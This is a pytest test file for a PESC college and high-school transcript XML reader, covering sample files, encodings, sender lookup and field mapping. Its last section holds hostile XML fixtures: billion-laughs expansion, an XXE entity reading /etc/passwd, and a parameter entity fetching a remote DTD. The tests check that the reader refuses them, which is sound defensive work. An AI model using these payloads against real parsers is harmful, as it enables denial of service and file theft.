"""PESC transcript XML reader: real third-party files, the spec's worked example, generated
documents in every namespace style / version / encoding, and hostile input."""

from __future__ import annotations

from pathlib import Path

import pytest

from dagster_project.landing.context import ProviderDirectory, ReadContext
from dagster_project.landing.contracts import contract
from dagster_project.landing.formats import pesc
from dagster_project.landing.formats.pesc import (
    DTD_MESSAGE,
    NO_CODE_REASON,
    NOT_PESC_MESSAGE,
    UNKNOWN_SENDER_REASON,
    read_pesc,
)
from dagster_project.landing.records import BOOKKEEPING, BatchBuilder, StructuralError
from tests.pesc_samples import (
    NS_STYLES,
    VERSIONS,
    Award,
    Course,
    Learner,
    Org,
    Program,
    Record,
    Session,
    Summary,
    encode,
    transcript,
)

PESC = contract("pesc_xml")
SUN = Org(fice="009333", name="State University North")
DIRECTORY = ProviderDirectory.from_rows([
    {"provider_id": "SUN", "fice": "009333", "opeid": "00933300"},
    {"provider_id": "EAST", "fice": "", "opeid": "01234500"},
    {"provider_id": "WEST", "fice": "007777", "opeid": ""},
])

PESC_AWARD_LEVELS = [
    "IPEDS1", "IPEDS2", "IPEDS3", "IPEDS4", "IPEDS5", "IPEDS6", "IPEDS7", "IPEDS8",
    "IPEDS17", "IPEDS18", "IPEDS19", "2.1", "2.6", "2.3", "2.7", "2.4", "2.5", "4.1", "4.2", "3.1", "4.4",
]
SECONDARY_LEVELS = [f"B{n}" for n in range(17, 29)]


def read(path: Path, providers: ProviderDirectory = DIRECTORY) -> list[dict]:
    ctx = ReadContext(providers=providers)
    return [row for batch in read_pesc(path, PESC, ctx) for row in batch.to_pylist()]


def read_bytes(tmp_path: Path, raw: bytes, providers: ProviderDirectory = DIRECTORY,
               ctx: ReadContext | None = None) -> list[dict]:
    path = tmp_path / "transcript.xml"
    path.write_bytes(raw)
    ctx = ctx or ReadContext(providers=providers)
    return [row for batch in read_pesc(path, PESC, ctx) for row in batch.to_pylist()]


def one_award_learner(**award: object) -> Learner:
    return Learner(records=[Record(school=SUN, awards=[Award(**award)],
                                   sessions=[Session(begin="2020-08-24", end="2020-12-12")])])


# -- schema ------------------------------------------------------------------------------------------


def test_batch_schema_is_bookkeeping_plus_contract_columns(tmp_path: Path) -> None:
    path = tmp_path / "t.xml"
    path.write_bytes(encode(transcript([one_award_learner(level="IPEDS3")])))
    batches = list(read_pesc(path, PESC, ReadContext(providers=DIRECTORY)))
    assert len(batches) == 1
    assert batches[0].schema.names == ["_line", "_problem_field", "_problem_reason"] + PESC.column_names
    assert list(BOOKKEEPING) == ["_line", "_problem_field", "_problem_reason"]
    assert all(str(f.type) == "string" for f in batches[0].schema if f.name != "_line")


# -- real third-party files --------------------------------------------------------------------------

REAL_DIRECTORY = ProviderDirectory.from_rows([
    {"provider_id": "BUTTE", "fice": "008073"},    # college-transcript.xml AcademicRecord/School
    {"provider_id": "VENTURA", "fice": "001334"},  # college-transcript.xml TransmissionData/Source
    {"provider_id": "MIAMI", "fice": "001506"},    # SampleCollegeTranscript Destination: never the sender
    {"provider_id": "UT", "fice": "123456"},       # SampleHighSchoolTranscript Destination: never the sender
])


def test_real_college_transcript_v16_butte(realdata_dir: Path) -> None:
    rows = read(realdata_dir / "pesc" / "college-transcript.xml", REAL_DIRECTORY)
    assert len(rows) == 1
    row = rows[0]
    assert row == {
        "_line": 1, "_problem_field": None, "_problem_reason": None,
        "provider_id": "BUTTE",  # the record's School (FICE 008073) wins over the Source (001334)
        "student_id": "0", "ssn": "000000000", "first_name": "John", "last_name": "Doe",
        "birth_date": "1995-01-01",  # written 1995-01-01Z
        "sex": "M", "race_ethnicity": None,
        "cip_code": "11.0101",  # AcademicAwardProgram, not the record's 123456
        "source_award_code": None,  # the award has no AcademicAwardLevel
        "transcript_type": "COLLEGE",
        "enrollment_start_date": "2014-09-01", "enrollment_end_date": "2014-12-07",  # course dates
        "credits_attempted": "159", "credits_earned": "136",  # record-level AcademicSummary
        "award_date": None, "award_title": None,
    }


def test_real_college_transcript_unknown_sender(realdata_dir: Path) -> None:
    rows = read(realdata_dir / "pesc" / "college-transcript.xml", ProviderDirectory())
    assert [(r["provider_id"], r["_problem_field"], r["_problem_reason"]) for r in rows] == [
        (None, "provider_id", UNKNOWN_SENDER_REASON)]
    assert rows[0]["student_id"] == "0"


def test_real_sample_college_transcript_v14(realdata_dir: Path) -> None:
    rows = read(realdata_dir / "pesc" / "SampleCollegeTranscript.xml", REAL_DIRECTORY)
    assert len(rows) == 4  # 4 AcademicRecords, one with an award
    assert [r["_line"] for r in rows] == [1, 2, 3, 4]
    for row in rows:
        assert row["transcript_type"] == "COLLEGE"
        assert row["student_id"] is None  # the sample has no SchoolAssignedPersonID
        assert (row["ssn"], row["first_name"], row["last_name"]) == ("100000000", "Test", "Speede")
        assert (row["birth_date"], row["sex"]) == ("1967-07-14", "F")
        # Schools carry CEEB / ATP codes only and the Source only an ATP: nothing to match on.
        assert (row["provider_id"], row["_problem_field"], row["_problem_reason"]) == (
            None, "provider_id", NO_CODE_REASON)
    high_school, acc, tamu, main = rows
    assert (high_school["source_award_code"], high_school["award_date"], high_school["award_title"]) == (
        "B18", "1985-05-01", "Standard High School Diploma")
    assert high_school["enrollment_start_date"] is None and high_school["credits_attempted"] is None
    for transfer in (acc, tamu):
        assert transfer["source_award_code"] is None and transfer["enrollment_start_date"] is None
    assert main["source_award_code"] is None and main["cip_code"] is None
    # Sessions carry only SessionDesignator; one of them is written `20010-01`, which wins so the
    # row is rejected for a bad date instead of silently starting in 1985-09.
    assert (main["enrollment_start_date"], main["enrollment_end_date"]) == ("20010-01", None)
    assert (main["credits_attempted"], main["credits_earned"]) == ("159", "136")


def test_real_sample_high_school_transcript_v13(realdata_dir: Path) -> None:
    rows = read(realdata_dir / "pesc" / "SampleHighSchoolTranscript.xml", REAL_DIRECTORY)
    assert rows == [{
        "_line": 1, "_problem_field": "provider_id", "_problem_reason": NO_CODE_REASON,
        "provider_id": None,  # no School; the Source has CEEBACT/CSIS only
        "student_id": "5555555", "ssn": "555555555", "first_name": "John", "last_name": "Student",
        "birth_date": "1987-07-20", "sex": "M", "race_ethnicity": None,
        "cip_code": None, "source_award_code": "B18", "transcript_type": "HIGH_SCHOOL",
        "enrollment_start_date": "2001-06-01",  # earliest SessionDesignator 2001-06
        "enrollment_end_date": None,
        "credits_attempted": "26.0", "credits_earned": "26.0",  # 50 courses x 0.5 + one of 1
        "award_date": "2011-06-20", "award_title": "High School Diploma",
    }]


# -- the spec's worked example -----------------------------------------------------------------------


def test_example_files_one_record_each_from_sun(example_dir: Path) -> None:
    files = sorted((example_dir / "landing" / "transcripts").glob("pesc_SUN_*.xml"))
    assert len(files) == 40
    directory = ProviderDirectory.from_rows([{"provider_id": "SUN", "fice": "009333"}])
    by_file = {f.name: read(f, directory) for f in files}
    for rows in by_file.values():
        assert len(rows) == 1
        assert rows[0]["provider_id"] == "SUN" and rows[0]["_problem_reason"] is None
        assert rows[0]["transcript_type"] == "COLLEGE"
    first = by_file["pesc_SUN_00000.xml"][0]
    assert first == {
        "_line": 1, "_problem_field": None, "_problem_reason": None, "provider_id": "SUN",
        "student_id": "SU0000005", "ssn": "153139959", "first_name": "James", "last_name": "Wilson",
        "birth_date": "1978-12-15", "sex": "M", "race_ethnicity": None, "cip_code": "52.0201",
        "source_award_code": "IPEDS7", "transcript_type": "COLLEGE",
        "enrollment_start_date": "2020-05-04", "enrollment_end_date": "2022-03-20",
        "credits_attempted": "18", "credits_earned": "18", "award_date": "2022-03-20",
        "award_title": "Master of Business Administration",
    }
    nursing = by_file["pesc_SUN_00002.xml"][0]
    assert (nursing["student_id"], nursing["source_award_code"], nursing["cip_code"]) == (
        "SU0000030", "2.4", "51.3801")
    assert (nursing["enrollment_start_date"], nursing["enrollment_end_date"]) == ("2020-06-07", "2024-11-22")
    assert (nursing["credits_attempted"], nursing["award_title"], nursing["sex"]) == (
        "39", "Nursing BSN", "F")
    mba = by_file["pesc_SUN_00003.xml"][0]
    assert (mba["student_id"], mba["source_award_code"], mba["award_date"]) == (
        "SU0000053", "4.2", "2019-06-02")
    assert (mba["enrollment_start_date"], mba["enrollment_end_date"]) == ("2017-09-08", "2019-05-31")
    assert (mba["credits_attempted"], mba["credits_earned"]) == ("15", "15")


# -- generated documents -----------------------------------------------------------------------------


@pytest.mark.parametrize("level", PESC_AWARD_LEVELS + SECONDARY_LEVELS)
def test_award_level_codes_pass_through_unchanged(tmp_path: Path, level: str) -> None:
    xml = transcript([one_award_learner(level=level, date="2021-05-15", title="Award",
                                        programs=[Program("52.0201")])], source=SUN)
    rows = read_bytes(tmp_path, encode(xml))
    assert [r["source_award_code"] for r in rows] == [level]
    assert rows[0]["cip_code"] == "52.0201" and rows[0]["award_date"] == "2021-05-15"


@pytest.mark.parametrize("version", VERSIONS)
@pytest.mark.parametrize("ns", NS_STYLES)
def test_namespace_styles_and_versions_read_alike(tmp_path: Path, ns: str, version: str) -> None:
    xml = transcript([one_award_learner(level="IPEDS5", date="2022-05-20", title="BS",
                                        programs=[Program("11.0701")])], source=SUN, ns=ns, version=version)
    rows = read_bytes(tmp_path, encode(xml))
    assert len(rows) == 1
    row = rows[0]
    assert (row["provider_id"], row["student_id"], row["ssn"]) == ("SUN", "S0001", "123456789")
    assert (row["first_name"], row["last_name"], row["birth_date"], row["sex"]) == (
        "Ada", "Quill", "1990-01-02", "F")
    assert (row["source_award_code"], row["cip_code"], row["award_date"], row["award_title"]) == (
        "IPEDS5", "11.0701", "2022-05-20", "BS")
    assert (row["enrollment_start_date"], row["enrollment_end_date"]) == ("2020-08-24", "2020-12-12")
    assert row["transcript_type"] == "COLLEGE"


@pytest.mark.parametrize("ns", NS_STYLES)
def test_high_school_root(tmp_path: Path, ns: str) -> None:
    xml = transcript([one_award_learner(level="B18")], source=SUN, root="HighSchoolTranscript",
                     version="v1.3.0", ns=ns)
    rows = read_bytes(tmp_path, encode(xml))
    assert [(r["transcript_type"], r["source_award_code"]) for r in rows] == [("HIGH_SCHOOL", "B18")]


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-bom", "utf-16", "utf-16be", "utf-16le-nobom"])
def test_encodings(tmp_path: Path, encoding: str) -> None:
    learner = one_award_learner(level="2.3", title="Associate in Applied Science")
    learner.first, learner.last = "Zoë", "De La Cruz"
    ctx = ReadContext(providers=DIRECTORY)
    rows = read_bytes(tmp_path, encode(transcript([learner], source=SUN), encoding), ctx=ctx)
    assert [(r["first_name"], r["last_name"], r["source_award_code"]) for r in rows] == [
        ("Zoë", "De La Cruz", "2.3")]
    if encoding == "utf-16le-nobom":
        assert ctx.warnings == ["file is UTF-16 (little-endian) without a byte-order mark; read as UTF-16LE"]
    else:
        assert ctx.warnings == []


def test_declared_single_byte_encoding_is_decoded_with_a_warning(tmp_path: Path) -> None:
    learner = one_award_learner(level="2.3")
    learner.first = "Zoë"
    declaration = '<?xml version="1.0" encoding="ISO-8859-1"?>\n'
    raw = (declaration + transcript([learner], source=SUN)).encode("latin-1")
    ctx = ReadContext(providers=DIRECTORY)
    rows = read_bytes(tmp_path, raw, ctx=ctx)
    assert rows[0]["first_name"] == "Zoë"
    assert ctx.warnings == ["file declares an encoding other than UTF-8 or UTF-16; decoded as declared"]


def test_multiple_students_and_awards_numbered_in_file_order(tmp_path: Path) -> None:
    first = Learner(school_id="A1", ssn="111223333", first="Ann", records=[
        Record(school=SUN, awards=[
            Award(level="2.3", date="2020-05-10", title="AAS", programs=[Program("51.3801")]),
            Award(level="2.6", date="2019-12-15", title="Certificate", programs=[Program("51.0801")]),
        ], sessions=[Session(begin="2018-08-20", end="2018-12-15"),
                     Session(begin="2019-01-10", end="2020-05-10")],
            summaries=[Summary("64", "60")]),
    ])
    second = Learner(school_id="B2", ssn=None, first="Ben", gender="Male", records=[
        Record(school=SUN, awards=[Award(level="IPEDS3", date="2021-05-01", programs=[Program("11.0201")])],
               sessions=[Session(begin="2019-08-26", end="2021-05-01")]),
        Record(school=SUN, sessions=[Session(begin="2021-08-30", end="2021-12-18")]),
    ])
    rows = read_bytes(tmp_path, encode(transcript([first, second], source=SUN)))
    assert [(r["_line"], r["student_id"], r["source_award_code"], r["cip_code"], r["award_date"])
            for r in rows] == [
        (1, "A1", "2.3", "51.3801", "2020-05-10"),
        (2, "A1", "2.6", "51.0801", "2019-12-15"),
        (3, "B2", "IPEDS3", "11.0201", "2021-05-01"),
        (4, "B2", None, None, None),
    ]
    # both awards of one record share its spell and credits
    spell = ("enrollment_start_date", "enrollment_end_date", "credits_attempted", "credits_earned")
    assert {tuple(r[c] for c in spell) for r in rows[:2]} == {("2018-08-20", "2020-05-10", "64", "60")}
    assert (rows[2]["ssn"], rows[2]["sex"], rows[2]["first_name"]) == (None, "M", "Ben")
    assert (rows[3]["enrollment_start_date"], rows[3]["enrollment_end_date"]) == ("2021-08-30", "2021-12-18")


def test_many_rows_span_batches_and_keep_ordinals(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(pesc, "BatchBuilder", lambda columns: BatchBuilder(columns, batch_rows=100))
    learners = [Learner(school_id=f"S{i:05d}", records=[Record(school=SUN, awards=[Award(level="IPEDS3")])])
                for i in range(250)]
    path = tmp_path / "t.xml"
    path.write_bytes(encode(transcript(learners, source=SUN)))
    batches = list(pesc.read_pesc(path, PESC, ReadContext(providers=DIRECTORY)))
    assert [b.num_rows for b in batches] == [100, 100, 50]
    rows = [r for b in batches for r in b.to_pylist()]
    assert [r["_line"] for r in rows] == list(range(1, 251))
    assert rows[-1]["student_id"] == "S00249"


def test_record_without_award_takes_its_single_program_cip(tmp_path: Path) -> None:
    record = Record(school=SUN, sessions=[
        Session(begin="2022-01-10", end="2022-05-06", programs=[Program("520201")]),
        Session(begin="2022-08-22", end="2022-12-16",
                programs=[Program("52.0201"), Program("09.0101", "Minor")]),
    ])
    rows = read_bytes(tmp_path, encode(transcript([Learner(records=[record])], source=SUN)))
    assert len(rows) == 1
    row = rows[0]
    assert (row["source_award_code"], row["award_date"], row["award_title"]) == (None, None, None)
    assert row["cip_code"] == "52.0201"
    assert (row["enrollment_start_date"], row["enrollment_end_date"]) == ("2022-01-10", "2022-12-16")


def test_record_with_two_program_cips_leaves_cip_empty(tmp_path: Path) -> None:
    record = Record(school=SUN, awards=[Award(level="2.3")], sessions=[
        Session(begin="2022-01-10", programs=[Program("52.0201")]),
        Session(begin="2022-08-22", programs=[Program("11.0701")]),
    ])
    rows = read_bytes(tmp_path, encode(transcript([Learner(records=[record])], source=SUN)))
    assert rows[0]["cip_code"] is None


def test_award_without_program_uses_record_program(tmp_path: Path) -> None:
    record = Record(school=SUN, awards=[Award(level="2.7")],
                    sessions=[Session(begin="2022-01-10", programs=[Program("47.0604")])])
    rows = read_bytes(tmp_path, encode(transcript([Learner(records=[record])], source=SUN)))
    assert rows[0]["cip_code"] == "47.0604"


def test_award_major_program_preferred_over_minor(tmp_path: Path) -> None:
    award = Award(level="IPEDS5", programs=[Program("09.0101", "Minor"), Program("11.0701", "Major")])
    rows = read_bytes(tmp_path, encode(transcript([Learner(records=[Record(school=SUN, awards=[award])])],
                                                  source=SUN)))
    assert rows[0]["cip_code"] == "11.0701"


@pytest.mark.parametrize(("written", "read_as"), [
    ("520201", "52.0201"), (" 52.0201 ", "52.0201"), ("52.02", "52.02"), ("5202", "5202"), ("999", "999"),
    ("1.0105", "01.0105"),  # a dropped leading zero is restored (codes.cip), as in every reader
])
def test_cip_normalization(tmp_path: Path, written: str, read_as: str) -> None:
    learner = one_award_learner(level="2.4", programs=[Program(written)])
    rows = read_bytes(tmp_path, encode(transcript([learner], source=SUN)))
    assert rows[0]["cip_code"] == read_as


def test_courses_only_dates_and_credit_sums(tmp_path: Path) -> None:
    record = Record(school=SUN, awards=[Award(level="2.1")], sessions=[
        Session(designator="2023-01", courses=[
            Course("3", "3", "2023-01-17", "2023-05-05"),
            Course("4.5", "0", "2023-01-09T00:00:00", "2023-03-01"),
        ]),
    ], courses=[Course("1.5", "1.5", "2023-06-01Z", "2023-07-28-05:00")])
    rows = read_bytes(tmp_path, encode(transcript([Learner(records=[record])], source=SUN)))
    row = rows[0]
    assert (row["enrollment_start_date"], row["enrollment_end_date"]) == ("2023-01-09", "2023-07-28")
    assert (row["credits_attempted"], row["credits_earned"]) == ("9.0", "4.5")


def test_session_dates_win_over_course_dates_and_summary_over_course_sums(tmp_path: Path) -> None:
    record = Record(school=SUN, awards=[Award(level="2.1")], summaries=[
        Summary("99", "98", "All"), Summary("30", "27", "SenderOnly"),
    ], sessions=[Session(begin="2023-01-17", end="2023-05-05",
                         courses=[Course("3", "3", "2022-12-01", "2023-06-30")])])
    row = read_bytes(tmp_path, encode(transcript([Learner(records=[record])], source=SUN)))[0]
    assert (row["enrollment_start_date"], row["enrollment_end_date"]) == ("2023-01-17", "2023-05-05")
    assert (row["credits_attempted"], row["credits_earned"]) == ("30", "27")  # SenderOnly preferred


def test_designator_is_the_last_resort_for_start(tmp_path: Path) -> None:
    record = Record(school=SUN, sessions=[Session(designator="2019-09"), Session(designator="2019-01")])
    row = read_bytes(tmp_path, encode(transcript([Learner(records=[record])], source=SUN)))[0]
    assert (row["enrollment_start_date"], row["enrollment_end_date"]) == ("2019-01-01", None)
    assert (row["credits_attempted"], row["credits_earned"]) == (None, None)


def test_bad_values_pass_through_raw_for_validation(tmp_path: Path) -> None:
    record = Record(school=SUN, awards=[Award(level="2.4", date="May 20, 2022")], sessions=[
        Session(begin="2020-08-24", end="2020-12-12", courses=[Course("3", "three")]),
        Session(begin="2021-02-30", end="2021-05-01", courses=[Course("3", "3")]),
    ])
    learner = Learner(birth="1990-13-01", records=[record])
    row = read_bytes(tmp_path, encode(transcript([learner], source=SUN)))[0]
    assert row["award_date"] == "May 20, 2022"
    assert row["birth_date"] == "1990-13-01"
    assert row["enrollment_start_date"] == "2021-02-30"  # not a calendar date: it wins, row is rejected
    assert row["enrollment_end_date"] == "2021-05-01"
    assert (row["credits_attempted"], row["credits_earned"]) == ("6", "three")


def test_us_dates_are_written_iso_so_the_earliest_is_found(tmp_path: Path) -> None:
    """codes.date_part: MM/DD/YYYY (which validation accepts) is compared as a date, not as text."""
    record = Record(school=SUN, awards=[Award(level="2.4", date="05/20/2022")], sessions=[
        Session(begin="09/01/2020", end="12/12/2020"), Session(begin="2020-01-15", end="5/1/2021"),
    ])
    row = read_bytes(tmp_path, encode(transcript([Learner(records=[record])], source=SUN)))[0]
    assert row["award_date"] == "2022-05-20"
    assert (row["enrollment_start_date"], row["enrollment_end_date"]) == ("2020-01-15", "2021-05-01")


def test_sender_by_opeid(tmp_path: Path) -> None:
    learner = Learner(records=[Record(school=Org(opeid="012345"), awards=[Award(level="2.3")])])
    rows = read_bytes(tmp_path, encode(transcript([learner], source=SUN)))
    assert (rows[0]["provider_id"], rows[0]["_problem_reason"]) == ("EAST", None)


def test_unknown_fice_falls_to_known_opeid(tmp_path: Path) -> None:
    school = Org(fice="999999", opeid="01234500")
    learner = Learner(records=[Record(school=school, awards=[Award(level="2.3")])])
    rows = read_bytes(tmp_path, encode(transcript([learner], source=SUN)))
    assert rows[0]["provider_id"] == "EAST"


def test_sender_via_transmission_source_when_record_has_no_school(tmp_path: Path) -> None:
    learner = Learner(records=[Record(awards=[Award(level="2.3")])])
    rows = read_bytes(tmp_path, encode(transcript([learner], source=Org(fice="7777"))))
    assert (rows[0]["provider_id"], rows[0]["_problem_field"]) == ("WEST", None)


def test_school_without_codes_is_not_replaced_by_source(tmp_path: Path) -> None:
    learner = Learner(records=[Record(school=Org(ceeb="440320", name="Some High School"),
                                      awards=[Award(level="B18")])])
    rows = read_bytes(tmp_path, encode(transcript([learner], source=SUN)))
    assert (rows[0]["provider_id"], rows[0]["_problem_field"], rows[0]["_problem_reason"]) == (
        None, "provider_id", NO_CODE_REASON)


def test_unknown_sender_keeps_records_with_problem(tmp_path: Path) -> None:
    awards = [Award(level="2.3"), Award(level="2.6")]
    learner = Learner(records=[Record(school=Org(fice="555555"), awards=awards)])
    rows = read_bytes(tmp_path, encode(transcript([learner], source=SUN)))
    assert [(r["_line"], r["provider_id"], r["_problem_field"], r["_problem_reason"]) for r in rows] == [
        (1, None, "provider_id", UNKNOWN_SENDER_REASON), (2, None, "provider_id", UNKNOWN_SENDER_REASON)]
    assert rows[0]["student_id"] == "S0001"


@pytest.mark.parametrize(("ids", "expected"), [
    ({"school_id": "SCH1", "agency_id": "AG1", "recipient_id": "RC1"}, "SCH1"),
    ({"school_id": None, "agency_id": "AG1", "recipient_id": "RC1"}, "AG1"),
    ({"school_id": None, "agency_id": None, "recipient_id": "RC1"}, "RC1"),
    ({"school_id": None, "agency_id": None, "recipient_id": None}, None),
])
def test_student_id_fallbacks(tmp_path: Path, ids: dict, expected: str | None) -> None:
    learner = Learner(**ids, records=[Record(school=SUN, awards=[Award(level="2.3")])])
    assert read_bytes(tmp_path, encode(transcript([learner])))[0]["student_id"] == expected


@pytest.mark.parametrize(("gender", "sex"), [
    ("Male", "M"), ("Female", "F"), ("Unreported", "U"), ("Other", "U"), (None, None),
])
def test_gender_mapping(tmp_path: Path, gender: str | None, sex: str | None) -> None:
    learner = Learner(gender=gender, records=[Record(school=SUN, awards=[Award(level="2.3")])])
    assert read_bytes(tmp_path, encode(transcript([learner])))[0]["sex"] == sex


def test_student_without_record_is_skipped_with_warning(tmp_path: Path) -> None:
    ctx = ReadContext(providers=DIRECTORY)
    xml = transcript([Learner(records=[]), one_award_learner(level="2.3")], source=SUN)
    rows = read_bytes(tmp_path, encode(xml), ctx=ctx)
    assert len(rows) == 1
    assert ctx.warnings == ["1 Student element(s) without an AcademicRecord were skipped"]


def test_transcript_without_students_has_no_records(tmp_path: Path) -> None:
    assert read_bytes(tmp_path, encode(transcript([], source=SUN))) == []


# -- hostile and broken input ------------------------------------------------------------------------

SECRET = "Zebediah"  # a value that must never appear in a message

BILLION_LAUGHS = f"""<?xml version="1.0"?>
<!DOCTYPE CollegeTranscript [
  <!ENTITY lol "{SECRET}">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<CollegeTranscript><Student><Person><Name><FirstName>&lol9;</FirstName></Name></Person></Student>
</CollegeTranscript>
""".encode()

EXTERNAL_ENTITY = f"""<?xml version="1.0"?>
<!DOCTYPE CollegeTranscript [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<CollegeTranscript><Student><Person><Name><FirstName>&xxe;</FirstName>
<LastName>{SECRET}</LastName></Name></Person></Student></CollegeTranscript>
""".encode()

PLAIN_DOCTYPE = f"""<?xml version="1.0"?>
<!DOCTYPE CollegeTranscript SYSTEM "CollegeTranscript.dtd">
<CollegeTranscript><Student><Person><Name><LastName>{SECRET}</LastName></Name></Person></Student>
</CollegeTranscript>
""".encode()

PARAMETER_ENTITY = f"""<?xml version="1.0"?>
<!DOCTYPE CollegeTranscript [<!ENTITY % remote SYSTEM "http://example.invalid/{SECRET}.dtd"> %remote;]>
<CollegeTranscript/>
""".encode()


@pytest.mark.parametrize("raw", [BILLION_LAUGHS, EXTERNAL_ENTITY, PLAIN_DOCTYPE, PARAMETER_ENTITY],
                         ids=["billion-laughs", "external-entity", "doctype", "parameter-entity"])
def test_dtd_and_entities_are_refused(tmp_path: Path, raw: bytes) -> None:
    with pytest.raises(StructuralError) as info:
        read_bytes(tmp_path, raw)
    assert str(info.value) == DTD_MESSAGE
    assert SECRET not in str(info.value) and "passwd" not in str(info.value)


def test_dtd_in_utf16_is_refused(tmp_path: Path) -> None:
    declaration = '<?xml version="1.0" encoding="UTF-16"?>'
    text = EXTERNAL_ENTITY.decode().replace('<?xml version="1.0"?>', declaration)
    with pytest.raises(StructuralError) as info:
        read_bytes(tmp_path, b"\xff\xfe" + text.encode("utf-16-le"))
    assert str(info.value) == DTD_MESSAGE


@pytest.mark.parametrize(("raw", "where"), [
    (f"<CollegeTranscript><Student><Person><SSN>987654321</SSN><LastName>{SECRET}</Person></Student>"
     "</CollegeTranscript>".encode(), "line 1, column"),
    (f"<CollegeTranscript>\n<Student>\n<Person><LastName>{SECRET} & 987654321</LastName>".encode(), "line 3"),
    (f"<CollegeTranscript><Student>&{SECRET};</Student></CollegeTranscript>".encode(), "line 1"),
    (f"<CollegeTranscript/>\n<{SECRET}/>".encode(), "line 2"),
], ids=["mismatched-tag", "bare-ampersand", "undefined-entity", "junk-after-root"])
def test_malformed_xml_names_position_not_content(tmp_path: Path, raw: bytes, where: str) -> None:
    with pytest.raises(StructuralError) as info:
        read_bytes(tmp_path, raw)
    message = str(info.value)
    assert message.startswith("malformed XML at ") and where in message
    assert SECRET not in message and "987654321" not in message


@pytest.mark.parametrize(
    "raw", [b"", b"   \r\n\t", b"\xef\xbb\xbf", b"\xff\xfe", "  \n".encode("utf-16")],
    ids=["zero-bytes", "whitespace", "utf8-bom-only", "utf16-bom-only", "utf16-whitespace"],
)
def test_empty_file(tmp_path: Path, raw: bytes) -> None:
    with pytest.raises(StructuralError, match="^empty file$"):
        read_bytes(tmp_path, raw)


@pytest.mark.parametrize("root", ["Transcript", "CollegeTranscriptResponse", "html", "Student"])
def test_non_pesc_root(tmp_path: Path, root: str) -> None:
    body = f"<Student><Person><LastName>{SECRET}</LastName></Person></Student>"
    raw = f'<{root} xmlns="urn:example">{body}</{root}>'
    with pytest.raises(StructuralError) as info:
        read_bytes(tmp_path, raw.encode())
    assert str(info.value) == NOT_PESC_MESSAGE
    assert SECRET not in str(info.value)


@pytest.mark.parametrize("encoding", ["Shift_JIS", "x-no-such-encoding"])
def test_unreadable_declared_encoding(tmp_path: Path, encoding: str) -> None:
    raw = f'<?xml version="1.0" encoding="{encoding}"?><CollegeTranscript/>'.encode()
    with pytest.raises(StructuralError, match="^unreadable encoding"):
        read_bytes(tmp_path, raw)
